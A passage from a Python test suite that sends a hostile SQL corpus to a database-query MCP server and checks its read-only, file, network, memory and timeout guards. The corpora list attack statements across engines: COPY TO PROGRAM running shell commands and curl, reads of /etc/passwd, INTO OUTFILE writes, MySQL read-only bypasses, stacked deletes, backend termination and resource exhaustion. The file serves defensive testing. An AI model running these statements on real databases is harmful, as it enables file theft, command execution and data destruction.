"""Hostile input through the real MCP server, on each engine (issue 25's "done when").

``guarded-sqlite mcp DB --timeout 2`` runs as a subprocess over stdio (newline-delimited JSON-RPC
written and read here, so the test knows the server's pid and times each call itself) on a SQLite
file, a DuckDB file and a PostgreSQL database, with writes off and, for the files, also
``--read-only``. It is sent a hand-written corpus (writes, file access, network, long and huge
statements, and PostgreSQL's own: ``COPY ... PROGRAM``, ``pg_read_file``, ``lo_import``/``lo_export``,
``dblink``, ``set_config('statement_timeout', ...)`` then ``pg_sleep``, ``SET ROLE``, ``COMMIT`` between
statements, ``DO``, temporary tables, huge ``generate_series`` and ``repeat``, 2 MB of comments) and
hypothesis token soups of the same words, through the ``query`` tool. What is measured, and how:

- Answered: each call gets a JSON-RPC result (rows, or a tool error whose text the model reads), never
  a JSON-RPC error or silence, within ``timeout + 1`` s of wall time from sending the request to
  reading the answer (the 1 s of overhead stretched by the machine's pace when it is busy: tests.pace);
  a plain query after every hostile one still answers with the right rows.
- Nothing written: the SQLite and DuckDB files' bytes are compared before and after every call; on PostgreSQL a
  checksum of every row of the shop, the sequence's position, the large objects and the schema's
  tables (``PG_STATE``).
- No file created: the server runs with its working directory, ``TMPDIR`` and ``HOME`` in the test's
  temporary folder; the statements point at a folder there (``{out}``), at relative names (the working
  directory), at ``~`` and at names under the system's ``/tmp`` (``{outside}``, unique per run, written
  by the database server's processes too). After every call those folders hold exactly what they
  held before (but the worker's own temporary folder, which must be gone at the end), and nothing
  named ``{outside}*`` exists.
- No socket except to the database server: the statements that reach for the network point at a TCP
  listener the test opens (``Canary``), which must never be connected to, by anyone (the MCP server,
  its worker or the database server). Besides, after every call the sockets of the server process and
  of its worker children are listed from ``/proc/PID/fd`` and looked up in ``/proc/PID/net/*``: every
  TCP/UDP socket must be connected to the PostgreSQL server's port (none at all for the files), and no
  Unix socket may appear that was not there at start (asyncio's own socketpair is). A socket opened and
  closed within one call would slip past that listing, and native code (libpq, DuckDB's httpfs) is not
  seen by Python's audit hooks, which is why the listener is the primary check and the listing the
  second; the audit hook in ``HOOK`` (``sitecustomize`` on the server's ``PYTHONPATH``, inherited by the
  worker) logs every Python-level ``socket.connect``/``bind``/``getaddrinfo`` on top, and that log must
  hold only connections to the database server.
- Memory: before each call the peak RSS of the server and of its worker is reset (``5`` written to
  ``/proc/PID/clear_refs``) and their RSS read; a thread samples ``VmHWM`` every 5 ms during the call
  (a worker killed at the deadline cannot be read afterwards); the call's growth is the sum over both
  of peak minus start. It must stay within ``agent.call_memory_bound`` for the server's limits and the
  statement's length. A worker started during the call (after a kill) is a fresh process whose start
  is not the call's growth; it is not counted.
- Still serving: after the corpus the server answers ``schema`` and a query, and exits when its stdin
  closes.
- Issue 37: MariaDB (the session's throwaway server) runs the corpus as root, so that the tool's own
  enforcement is what holds, and again as the account docs/agents.md asks for (SELECT on one database);
  its corpus holds the published read-only bypasses (executable comments, stacked statements,
  ``INTO OUTFILE``/``DUMPFILE``, ``LOAD_FILE``, ``LOAD DATA``), ``SLEEP``/``BENCHMARK``, named locks, user
  variables and ``SET``, ``HANDLER``, temporary tables, ``KILL``, ``LOCK TABLES``, ``CALL``, ``DO`` and
  row locks. After every call: the rows, the tables and the database's folder in the server's datadir
  unchanged (a relative ``INTO OUTFILE`` lands there), no named lock held, and another connection opens.
- Issue 36: PostgreSQL runs as the documented role, and after every call another plain connection to
  the server opens and no advisory lock is held; the corpus holds session state (advisory locks,
  ``LISTEN``, ``setseed``, ``set_config``), signals to backends (``pg_terminate_backend`` of its own and
  its role's sessions), catalog functions that show paths, and sorts that would spill to disk. The
  server keeps an audit log (``--audit-log``): one line per call, and none of the corpus's file paths
  in it. A queue case sends slow statements and a benign one at once: each is answered within the
  limit from its own arrival.
"""

from __future__ import annotations

import json
import os
import queue
import socket
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guarded_sqlite.agent import DEFAULT_MAX_CHARS, DEFAULT_MAX_ROWS, call_memory_bound
from tests.pace import PaceMeter, within
from tests.repros.test_repros_agent import HOSTILE

pytest.importorskip("mcp")

TIMEOUT = 2.0
"""The server's --timeout: every call must be answered within TIMEOUT + SLACK."""

SLACK = 1.0
"""Seconds of overhead past TIMEOUT (a worker killed and restarted, the JSON-RPC round trip) on an idle
machine; ``tests.pace.within`` stretches them by the pace measured in the run when it is busy."""

HOOK = r"""
import os, sys

_LOG = os.environ.get("GUARDED_HOSTILE_AUDIT")
_busy = []


def _hook(event, args):
    if _busy or not event.startswith("socket.") or event == "socket.__new__":
        return
    if event not in ("socket.connect", "socket.bind", "socket.getaddrinfo", "socket.sendto", "socket.sendmsg"):
        return
    _busy.append(1)
    try:
        fd = os.open(_LOG, os.O_WRONLY | os.O_APPEND | os.O_CREAT, 0o600)
        try:
            target = args[1] if event in ("socket.connect", "socket.bind", "socket.sendto") else args[:2]
            os.write(fd, (repr((os.getpid(), event, target)) + "\n").encode())
        finally:
            os.close(fd)
    except Exception:
        pass
    finally:
        _busy.pop()


if _LOG:
    sys.addaudithook(_hook)
"""


# --- the canary listener -----------------------------------------------------------------------------


class Canary:
    """A TCP listener on loopback that records every connection made to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.2)
        self.port: int = self.sock.getsockname()[1]
        self.hits: list[Any] = []
        self._stop = False
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop:
            try:
                peer, address = self.sock.accept()
            except OSError:
                continue
            self.hits.append(address)
            peer.close()

    def close(self) -> None:
        self._stop = True
        self._thread.join(2)
        self.sock.close()


# --- /proc -------------------------------------------------------------------------------------------


def children(pid: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as stat:
                fields = stat.read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            found.append(int(entry))
    return found


def status_kib(pid: int, key: str) -> int | None:
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith(key + ":"):
                    return int(line.split()[1])
    except OSError:
        return None
    return None


def reset_peak(pid: int) -> None:
    try:
        with open(f"/proc/{pid}/clear_refs", "w") as clear:
            clear.write("5")
    except OSError:
        pass


def socket_inodes(pid: int) -> set[int]:
    inodes = set()
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError:
        return inodes
    for fd in fds:
        try:
            link = os.readlink(f"/proc/{pid}/fd/{fd}")
        except OSError:
            continue
        if link.startswith("socket:["):
            inodes.add(int(link[8:-1]))
    return inodes


def _hex_address(text: str) -> tuple[str, int]:
    host, port = text.split(":")
    if len(host) == 8:
        address = socket.inet_ntop(socket.AF_INET, bytes.fromhex(host)[::-1])
    else:
        raw = bytes.fromhex(host)
        address = socket.inet_ntop(socket.AF_INET6, b"".join(raw[i : i + 4][::-1] for i in range(0, 16, 4)))
    return address, int(port, 16)


def inet_sockets(pid: int) -> dict[int, tuple[str, str, int, str]]:
    """inode -> (table, remote host, remote port, state) for each IP socket in ``pid``'s namespace."""
    table: dict[int, tuple[str, str, int, str]] = {}
    for name in ("tcp", "tcp6", "udp", "udp6", "raw", "raw6"):
        try:
            with open(f"/proc/{pid}/net/{name}") as listing:
                lines = listing.readlines()[1:]
        except OSError:
            continue
        for line in lines:
            parts = line.split()
            host, port = _hex_address(parts[2])
            table[int(parts[9])] = (name, host, port, parts[3])
    return table


def unix_inodes(pid: int) -> set[int]:
    try:
        with open(f"/proc/{pid}/net/unix") as listing:
            return {int(line.split()[6]) for line in listing.readlines()[1:]}
    except OSError:
        return set()


# --- the server --------------------------------------------------------------------------------------


@dataclass
class Call:
    sql: str
    response: dict[str, Any]
    seconds: float
    growth: int
    """Bytes: the call's peak RSS minus RSS at its start, summed over the server and its worker."""

    @property
    def is_error(self) -> bool:
        return bool(self.response.get("result", {}).get("isError"))

    @property
    def text(self) -> str:
        content = self.response.get("result", {}).get("content") or [{}]
        return str(content[0].get("text", ""))


@dataclass
class Server:
    """``guarded-sqlite mcp`` as a subprocess, spoken to in newline-delimited JSON-RPC."""

    target: str
    home: Path
    read_only: bool = False
    db_port: int | None = None
    allow_privileged: bool = False
    calls: list[Call] = field(default_factory=list)

    def __post_init__(self) -> None:
        for name in ("cwd", "tmp", "home", "hook"):
            (self.home / name).mkdir(parents=True, exist_ok=True)
        (self.home / "hook" / "sitecustomize.py").write_text(HOOK)
        self.audit = self.home / "audit.log"
        env = dict(os.environ)
        env.update(
            TMPDIR=str(self.home / "tmp"),
            HOME=str(self.home / "home"),
            PYTHONPATH=os.pathsep.join([str(self.home / "hook"), *filter(None, [env.get("PYTHONPATH")])]),
            GUARDED_HOSTILE_AUDIT=str(self.audit),
        )
        self.log = self.home / "calls.jsonl"
        args = [sys.executable, "-m", "guarded_sqlite", "mcp", self.target, "--timeout", f"{TIMEOUT:g}"]
        args += ["--audit-log", str(self.log)]
        if self.read_only:
            args.append("--read-only")
        if self.allow_privileged:
            args.append("--allow-privileged")
        self.stderr = open(self.home / "stderr.log", "wb")
        self.process = subprocess.Popen(
            args,
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=self.stderr,
            cwd=self.home / "cwd",
            env=env,
        )
        self.answers: queue.Queue[dict[str, Any] | None] = queue.Queue()
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()
        self._id = 0
        init = self.request(
            "initialize",
            {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "hostile", "version": "0"}},
            wait=60,
        )
        assert "result" in init, init
        self._send({"jsonrpc": "2.0", "method": "notifications/initialized"})
        self.unix_at_start = self.unix_sockets()

    def _read(self) -> None:
        assert self.process.stdout is not None
        for line in self.process.stdout:
            self.answers.put(json.loads(line))
        self.answers.put(None)

    def _send(self, message: dict[str, Any]) -> None:
        assert self.process.stdin is not None
        self.process.stdin.write(json.dumps(message).encode() + b"\n")
        self.process.stdin.flush()

    def request(self, method: str, params: dict[str, Any], *, wait: float = 30) -> dict[str, Any]:
        self._id += 1
        self._send({"jsonrpc": "2.0", "id": self._id, "method": method, "params": params})
        give_up = time.monotonic() + wait
        while True:
            try:
                answer = self.answers.get(timeout=max(0.0, give_up - time.monotonic()))
            except queue.Empty:
                raise AssertionError(f"no answer to {method} within {wait} s") from None
            assert answer is not None, f"the server ended (status {self.process.wait()}): {self.stderr_text()}"
            if answer.get("id") == self._id:
                return answer

    def stderr_text(self) -> str:
        self.stderr.flush()
        return (self.home / "stderr.log").read_text(errors="replace")[-4000:]

    def tree(self) -> list[int]:
        return [self.process.pid, *children(self.process.pid)]

    def query(self, sql: str) -> Call:
        """One ``query`` call, timed and with its memory growth measured."""
        start_rss: dict[int, int] = {}
        for pid in self.tree():
            reset_peak(pid)
            rss = status_kib(pid, "VmRSS")
            if rss is not None:
                start_rss[pid] = rss
        peaks = dict(start_rss)
        done = threading.Event()

        def sample() -> None:
            while not done.is_set():
                for pid in start_rss:
                    hwm = status_kib(pid, "VmHWM")
                    if hwm is not None and hwm > peaks[pid]:
                        peaks[pid] = hwm
                done.wait(0.005)

        sampler = threading.Thread(target=sample, daemon=True)
        sampler.start()
        started = time.monotonic()
        try:
            response = self.request("tools/call", {"name": "query", "arguments": {"sql": sql}})
        finally:
            seconds = time.monotonic() - started
            done.set()
            sampler.join()
        for pid in start_rss:
            hwm = status_kib(pid, "VmHWM")
            if hwm is not None and hwm > peaks[pid]:
                peaks[pid] = hwm
        growth = 1024 * sum(peaks[pid] - start_rss[pid] for pid in start_rss)
        call = Call(sql, response, seconds, growth)
        self.calls.append(call)
        return call

    def unix_sockets(self) -> set[int]:
        found = set()
        for pid in self.tree():
            found |= socket_inodes(pid) & unix_inodes(pid)
        return found

    def foreign_sockets(self) -> list[str]:
        """The server tree's sockets that are neither connected to the database server nor there at start."""
        foreign = []
        for pid in self.tree():
            inodes = socket_inodes(pid)
            inet = inet_sockets(pid)
            unix = unix_inodes(pid)
            for inode in inodes:
                if inode in inet:
                    kind, host, port, state = inet[inode]
                    if not (kind.startswith("tcp") and self.db_port is not None and port == self.db_port):
                        foreign.append(f"pid {pid}: {kind} to {host}:{port} (state {state})")
                elif inode in unix:
                    if inode not in self.unix_at_start:
                        foreign.append(f"pid {pid}: a new unix socket {inode}")
                else:
                    foreign.append(f"pid {pid}: a socket {inode} of another family")
        return foreign

    def pipeline(self, statements: list[str]) -> list[tuple[dict[str, Any], float]]:
        """Send every statement at once (pipelined, as parallel tool calls arrive); each answer with
        its seconds from when its own request was sent."""
        sent: dict[int, tuple[int, float]] = {}
        for index, sql in enumerate(statements):
            self._id += 1
            sent[self._id] = (index, time.monotonic())
            params = {"name": "query", "arguments": {"sql": sql}}
            self._send({"jsonrpc": "2.0", "id": self._id, "method": "tools/call", "params": params})
        answers: list[tuple[dict[str, Any], float]] = [({}, 0.0)] * len(statements)
        give_up = time.monotonic() + 60
        pending = set(sent)
        while pending:
            answer = self.answers.get(timeout=max(0.0, give_up - time.monotonic()))
            assert answer is not None, self.stderr_text()
            if answer.get("id") in pending:
                index, at = sent[answer["id"]]
                answers[index] = (answer, time.monotonic() - at)
                pending.discard(answer["id"])
        return answers

    def audited(self) -> list[str]:
        if not self.audit.exists():
            return []
        return self.audit.read_text().splitlines()

    def close(self) -> int:
        assert self.process.stdin is not None
        self.process.stdin.close()
        try:
            code = self.process.wait(30)
        except subprocess.TimeoutExpired:
            self.process.kill()
            code = self.process.wait()
        self._reader.join(5)
        assert self.process.stdout is not None
        self.process.stdout.close()
        self.stderr.close()
        return code


# --- the corpus --------------------------------------------------------------------------------------

COMMON = [
    *HOSTILE,
    "SELECT 1 FROM customers WHERE email = '" + "y" * 2_000_000 + "'",
    "/*" + "x" * 2_000_000 + "*/ SELECT 1",
    "--x\n" * 500_000 + "SELECT 1",
    "SELECT * FROM customers, customers a, customers b, customers c, customers d, customers e",
    "COPY customers TO 'rel.csv'",
    "ATTACH 'rel.db' AS r",
    "ATTACH '{outside}.db' AS o",
    "VACUUM INTO '{outside}.db'",
    "COPY customers TO '{outside}.csv'",
]

SQLITE_ONLY = [
    "SELECT printf('%.*c', 500000000, 'x')",
    "SELECT printf('%.*c', 190000, 'x')",
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION SELECT i + 1 FROM n) SELECT count(*) FROM n",
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 3000000) SELECT i FROM n ORDER BY random() "
    "LIMIT 1",
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 3000000) SELECT group_concat(i) FROM n",
    "SELECT instr(printf('%.*c', 900000, 'x'), printf('%.*c', 400000, 'x') || 'y')",
    # Disk (issue 36): a full sort that SQLite would spill to TMPDIR; in memory, under the heap cap.
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 3000000) "
    "SELECT i, printf('%.*c', 50, 'x') FROM n ORDER BY random()",
    "SELECT file FROM pragma_database_list",
    "ATTACH 'file:{outside}.uri?mode=rwc' AS u",
    "SELECT writefile('{outside}.w', 'x')",
]

DUCKDB_ONLY = [
    "SELECT repeat('x', 500000000)",
    "SELECT list(i) FROM range(10000000) t(i)",
    "SELECT list({{'a': i}}) FROM range(3000000) t(i)",
    "SELECT string_agg(i::VARCHAR, ',') FROM range(100000000) t(i)",
    "SELECT count(*) FROM range(100000000000)",
    "SELECT * FROM range(100000000) ORDER BY random() LIMIT 1",
    "SELECT * FROM read_csv('http://127.0.0.1:{canary}/x.csv')",
    "SELECT * FROM read_json('http://127.0.0.1:{canary}/x.json')",
    "INSTALL httpfs FROM 'http://127.0.0.1:{canary}/'",
    "SELECT 1; INSTALL httpfs FROM 'http://127.0.0.1:{canary}/'",
    "ATTACH 'http://127.0.0.1:{canary}/x.duckdb' AS h",
    "SELECT * FROM read_text('~/x')",
    "COPY (SELECT 1) TO '~/x.csv'",
    "SELECT * FROM glob('/*')",
    "SET enable_external_access = true",
    "SELECT current_setting('lock_configuration')",
    "CHECKPOINT",
    "SELECT setseed(0.5)",
    # Disk and paths (issue 36): a sort past memory_limit spills at most max_temp_directory_size.
    "SELECT i, md5(i::VARCHAR) AS h FROM range(30000000) t(i) ORDER BY h",
    "SELECT * FROM query('SELECT 1 AS \"' || repeat('x', 30000000) || '\"')",
    "SELECT * FROM duckdb_settings()",
    "SELECT path FROM duckdb_databases()",
    "DESCRIBE customers",
    "SUMMARIZE customers",
]

PG_ONLY = [
    "COPY customers TO PROGRAM 'touch {outside}.program'",
    "COPY customers FROM PROGRAM 'curl -s http://127.0.0.1:{canary}/'",
    "SELECT 1; COPY customers TO PROGRAM 'touch {outside}.multi'",
    "COPY (SELECT 1) TO '{outside}.copy'",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('/etc/hostname')",
    "SELECT pg_ls_dir('/')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_from_bytea(0, 'x')",
    "SELECT lo_export(lo_from_bytea(0, 'x'), '{outside}.lo')",
    "SELECT dblink_connect('host=127.0.0.1 port={canary} dbname=x password=x')",
    "SELECT * FROM dblink('host=127.0.0.1 port={canary} password=x', 'DELETE FROM customers') AS t(x text)",
    "CREATE EXTENSION dblink",
    "SELECT set_config('statement_timeout', '0', false)",
    "SELECT pg_sleep(30)",
    "SELECT set_config('statement_timeout', '0', false), pg_sleep(30)",
    "SELECT set_config('default_transaction_read_only', 'off', false)",
    "SELECT set_config('transaction_read_only', 'off', false)",
    "SELECT set_config('role', 'postgres', false)",
    "SET ROLE postgres",
    "SET SESSION AUTHORIZATION postgres",
    "RESET ALL",
    "SELECT 1; COMMIT; DELETE FROM customers",
    "COMMIT; DELETE FROM customers",
    "ROLLBACK; SET default_transaction_read_only = off; DELETE FROM customers",
    "SELECT $$; COMMIT; DELETE FROM customers; $$",
    "DO $$BEGIN DELETE FROM customers; END$$",
    "DO $$BEGIN PERFORM pg_sleep(30); END$$",
    "CREATE TEMP TABLE t AS SELECT * FROM customers",
    "SELECT * INTO TEMP t FROM customers",
    "SELECT * FROM customers FOR UPDATE",
    "PREPARE p AS DELETE FROM customers",
    "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM customers",
    "SELECT nextval('tickets')",
    "SELECT setval('tickets', 99)",
    "SELECT txid_current()",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
    "SELECT pg_cancel_backend(pg_backend_pid())",
    "SELECT pg_advisory_lock(1)",
    # Session state and signals (issue 36, a18/a19): refused by name, and reset or healed if they ran.
    "SELECT count(pg_advisory_lock(i)) FROM generate_series(1, 100000) i",
    'SELECT pg_catalog."pg_advisory_lock"(7)',
    'SELECT U&"pg_advisory_lock"(7)',
    "SELECT query_to_xml('SELECT pg_advisory_lock(7)', true, true, '')",
    "SELECT ts_stat('SELECT to_tsvector(pg_terminate_backend(pg_backend_pid())::text)')",
    "SELECT pg_terminate_backend(pg_backend_pid())",
    "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE usename = current_user",
    "SELECT pg_reload_conf()",
    "SELECT pg_notify('channel', 'x')",
    "LISTEN channel",
    "SELECT setseed(0.5)",
    "SELECT set_config('work_mem', '64kB', false), set_config('search_path', 'pg_catalog', false)",
    "SELECT pg_create_physical_replication_slot('hostile', true)",
    "SELECT * FROM generate_series(1, 100000000)",
    "SELECT count(*) FROM generate_series(1, 10000000000)",
    "SELECT array_agg(g) FROM generate_series(1, 50000000) g",
    "SELECT repeat('x', 500000000)",
    "SELECT repeat('x', 100000000)",
    "SELECT string_agg(repeat('x', 1000000), '') FROM generate_series(1, 400)",
    "SELECT repeat('x', 190000)",
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT count(*) FROM n",
]

MYSQL_ONLY = [
    # Published read-only bypasses: executable comments and stacked statements.
    "/*!50000 DELETE FROM customers */",
    "/*!DROP TABLE customers*/",
    "/*M!100000 DELETE FROM customers */",
    "SELECT 1 /*!50000 , (SELECT GET_LOCK('hostile', 0)) */",
    "SELECT 1 /*!50000 INTO OUTFILE '{outside}.cond' */",
    "SELECT 1; DELETE FROM customers",
    "SELECT 1; SELECT SLEEP(30)",
    "SELECT 'a\\'; DELETE FROM customers; -- '",
    # Files on the server's machine.
    "SELECT * FROM customers INTO OUTFILE '{outside}.out'",
    "SELECT * FROM customers INTO DUMPFILE '{outside}.dump'",
    "SELECT email FROM customers LIMIT 1 INTO OUTFILE 'relative.txt'",
    "SELECT email INTO OUTFILE '{outside}.into' FROM customers",
    "SELECT LOAD_FILE('/etc/passwd')",
    "SELECT load_file(CONCAT('/etc/', 'passwd'))",
    "LOAD DATA INFILE '/etc/hostname' INTO TABLE customers",
    "LOAD DATA LOCAL INFILE '/etc/hostname' INTO TABLE customers",
    "SELECT sys_exec('touch {outside}.udf')",
    "INSTALL SONAME 'ha_example'",
    # Time.
    "SELECT SLEEP(30)",
    "SELECT BENCHMARK(5000000000, MD5('x'))",
    "SET STATEMENT max_statement_time = 0 FOR SELECT SLEEP(30)",
    "SELECT /*+ MAX_EXECUTION_TIME(0) */ SLEEP(30)",
    "DO SLEEP(30)",
    "SELECT COUNT(*) FROM seq_1_to_100000000000",
    "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT COUNT(*) FROM n",
    # Session state: named locks, variables, settings, handlers, temporary tables, prepared statements.
    "SELECT GET_LOCK('hostile', 0)",
    "SELECT `get_lock`('hostile', 0)",
    "DO GET_LOCK('hostile', 0)",
    "SELECT @x := 1",
    "SELECT 1 INTO @x",
    "SELECT @@max_statement_time := 0",
    "SET SESSION max_statement_time = 0",
    "SET @@session.transaction_read_only = 0",
    "SET SESSION TRANSACTION READ WRITE",
    "SET GLOBAL max_connections = 1",
    "SET GLOBAL read_only = 1",
    "HANDLER customers OPEN",
    "CREATE TEMPORARY TABLE t AS SELECT * FROM customers",
    "PREPARE s FROM 'DELETE FROM customers'",
    "EXECUTE s",
    "XA START 'hostile'",
    "COMMIT; DELETE FROM customers",
    # Other sessions and the server.
    "KILL CONNECTION_ID()",
    "KILL QUERY 1",
    "SELECT * FROM information_schema.processlist",
    "LOCK TABLES customers WRITE",
    "FLUSH TABLES WITH READ LOCK",
    "CALL nothing()",
    "SHUTDOWN",
    "CREATE DATABASE hostile_db",
    "SELECT * FROM customers FOR UPDATE",
    "SELECT * FROM customers LOCK IN SHARE MODE",
    # Sizes.
    "SELECT seq FROM seq_1_to_100000000",
    "SELECT REPEAT('x', 100000000)",
    "SELECT GROUP_CONCAT(REPEAT('x', 1000000)) FROM seq_1_to_400",
    "SELECT REPEAT('x', 190000)",
    "SELECT seq, MD5(seq) AS h FROM seq_1_to_30000000 ORDER BY h",
]

MYSQL_WORDS = [
    "/*!", "/*!50000", "/*M!", "INTO", "OUTFILE", "DUMPFILE", "'{outside}.gen'", "LOAD_FILE('/etc/passwd')",
    "GET_LOCK('hostile', 0)", "SLEEP(30)", "@x", ":=", "HANDLER", "KILL", "LOCK", "TABLES", "DO", "#",
]  # fmt: skip
"""Words of MySQL's own added to the generated statements on MariaDB."""

CORPUS = {
    "sqlite": COMMON + SQLITE_ONLY,
    "duckdb": COMMON + DUCKDB_ONLY,
    "postgres": COMMON + PG_ONLY,
    "mysql": COMMON + MYSQL_ONLY,
}

WORDS = [
    "SELECT", "1", ";", "DELETE", "FROM", "customers", "INSERT", "INTO", "VALUES", "(", ")", "ATTACH", "'{out}/g.db'",
    "AS", "g", "COPY", "TO", "PROGRAM", "'touch {outside}.gen'", "'{outside}.gen'", "PRAGMA", "query_only", "=", "OFF",
    "WITH", "x", "VACUUM", "UPDATE", "SET", "email", "'", "--", "/*", "*/", "$$", "COMMIT", "DO", "BEGIN", "END",
    "ROLE", "postgres", "TEMP", "TABLE", "CREATE", "DROP", ",", "*", "zeroblob(99999999)", "repeat('x', 300000000)",
    "pg_sleep(30)", "set_config('statement_timeout', '0', false)", "pg_read_file('/etc/passwd')",
    "lo_import('/etc/passwd')", "read_text('/etc/hostname')", "read_csv('http://127.0.0.1:{canary}/g')",
    "load_extension('x')", "nextval('tickets')", "generate_series(1, 100000000)", "range(100000000)",
]  # fmt: skip
"""The words of the generated statements: every engine's writes, file and network access, and sizes."""


# --- checks ------------------------------------------------------------------------------------------


@dataclass
class Scene:
    """One engine's database and what must not change, with the server's folders and the canary."""

    engine: str
    target: str
    state: Any
    home: Path
    canary: Canary
    outside: str
    db_port: int | None = None
    admin_dsn: str | None = None
    """PostgreSQL: the superuser's DSN, to check that the server still takes new connections."""
    after_call: Any = None
    """MariaDB: a check run after every call (another connection opens, no named lock is held)."""
    privileged: bool = False
    """MariaDB as root: the server is started with ``--allow-privileged``, so that the tool's own checks
    are all that stand between the corpus and root's grants."""
    initial: Any = None
    initial_listing: dict[str, list[str]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        for name in ("out", "cwd", "tmp", "home"):
            (self.home / name).mkdir(parents=True, exist_ok=True)
        self.initial = self.state()
        self.initial_listing = self.listing()

    def fill(self, template: str) -> str:
        return (
            template.replace("{out}", str(self.home / "out"))
            .replace("{outside}", self.outside)
            .replace("{canary}", str(self.canary.port))
            .replace("{{", "{")
            .replace("}}", "}")
        )

    def listing(self) -> dict[str, list[str]]:
        """What the folders hold, but the worker's own temporary folder (which its parent removes)."""
        return {
            name: sorted(entry for entry in os.listdir(self.home / name) if not entry.startswith(WORKER_TMP))
            for name in ("out", "cwd", "tmp", "home")
        }


WORKER_TMP = "guarded-sqlite-worker-"
"""The prefix of a worker process's TMPDIR, made under the server's and removed when the worker ends."""


HEALTH = "SELECT count(*) AS n FROM customers"


def check_call(server: Server, scene: Scene, sql: str, limits: tuple[int, int]) -> Call:
    """Send one statement and check what each call must satisfy; then a plain query must still answer."""
    call = server.query(sql)
    where = f"{scene.engine}: {sql[:120]!r}"
    assert "result" in call.response, (where, call.response)  # a tool result, never a protocol error
    assert within(call.seconds, TIMEOUT, SLACK), (where, call.seconds, call.text[:300])
    bound = call_memory_bound(scene.engine, *limits, sql_chars=len(sql))
    assert call.growth <= bound, (where, call.growth, bound, call.text[:300])
    assert scene.state() == scene.initial, (where, "the database changed")
    assert scene.listing() == scene.initial_listing, (where, "a file was created")
    assert not list(Path(scene.outside).parent.glob(Path(scene.outside).name + "*")), (where, "a file outside")
    foreign = server.foreign_sockets()
    assert not foreign, (where, foreign)
    health = server.query(HEALTH)
    assert not health.is_error, (where, health.text)
    assert health.response["result"]["structuredContent"]["rows"] == [[50]], (where, health.text)
    assert within(health.seconds, TIMEOUT, SLACK), (where, "the next call", health.seconds)
    if scene.admin_dsn is not None:  # a hostile call must not keep others off the server (a19)
        import psycopg

        with psycopg.connect(scene.admin_dsn, connect_timeout=5) as plain:
            assert plain.execute("SELECT 1").fetchone() == (1,), where
            held = plain.execute("SELECT count(*) FROM pg_locks WHERE locktype = 'advisory'").fetchone()
            assert held == (0,), (where, "advisory locks outlived the call")
    if scene.after_call is not None:
        scene.after_call(where)
    return call


def finish(server: Server, scene: Scene, listing: dict[str, list[str]]) -> None:
    """After the corpus: still serving, nothing written or created, no connection to the canary."""
    schema = server.request("tools/call", {"name": "schema", "arguments": {}})
    assert not schema["result"].get("isError"), schema
    assert server.query(HEALTH).response["result"]["structuredContent"]["rows"] == [[50]]
    sockets = [line for line in server.audited() if "connect" in line or "bind" in line or "getaddrinfo" in line]
    allowed = f", {scene.db_port})" if scene.db_port else None
    assert all(allowed and allowed in line for line in sockets), sockets
    assert server.close() == 0, server.stderr_text()
    logged = server.log.read_text(encoding="utf-8").splitlines()
    assert len(logged) == len(server.calls) + 1, "one audit line per call"  # and the schema call
    assert scene.canary.hits == []
    assert scene.listing() == listing
    assert not list((scene.home / "tmp").glob(WORKER_TMP + "*")), "a worker's temporary folder stayed"
    assert list(Path(scene.outside).parent.glob(Path(scene.outside).name + "*")) == []
    assert scene.state() == scene.initial, "the database changed"


# --- the databases -----------------------------------------------------------------------------------

PG_SETUP = """
CREATE TABLE customers (id INTEGER PRIMARY KEY, email TEXT NOT NULL);
INSERT INTO customers SELECT i, 'u' || i || '@example.com' FROM generate_series(1, 50) i;
CREATE SEQUENCE tickets;
"""

PG_STATE = (
    "SELECT (SELECT md5(string_agg(t::text, '|' ORDER BY id)) FROM customers t), "
    "(SELECT last_value FROM tickets), (SELECT count(*) FROM pg_largeobject_metadata), "
    "(SELECT count(*) FROM pg_replication_slots), "
    "(SELECT string_agg(relname, ',' ORDER BY relname) FROM pg_class "
    "WHERE relnamespace = current_schema()::regnamespace)"
)
"""Every row, the sequence's position, the large objects, the replication slots and the schema's relations."""


@pytest.fixture
def canary() -> Iterator[Canary]:
    listener = Canary()
    yield listener
    listener.close()


def make_scene(engine: str, tmp_path: Path, canary: Canary, request: pytest.FixtureRequest) -> Scene:
    outside = f"/tmp/guarded-hostile-{uuid.uuid4().hex}"
    home = tmp_path / "server"
    folder = tmp_path / "db"
    folder.mkdir()
    if engine.startswith("mysql"):
        return make_mysql_scene(engine == "mysql-reader", home, canary, outside, request)
    if engine == "sqlite":
        import sqlite3

        path = folder / "shop.db"
        con = sqlite3.connect(path)
        con.execute("CREATE TABLE customers(id INTEGER PRIMARY KEY, email TEXT)")
        con.executemany("INSERT INTO customers(email) VALUES (?)", [(f"u{i}@example.com",) for i in range(50)])
        con.commit()
        con.close()
        return Scene(engine, str(path), path.read_bytes, home, canary, outside)
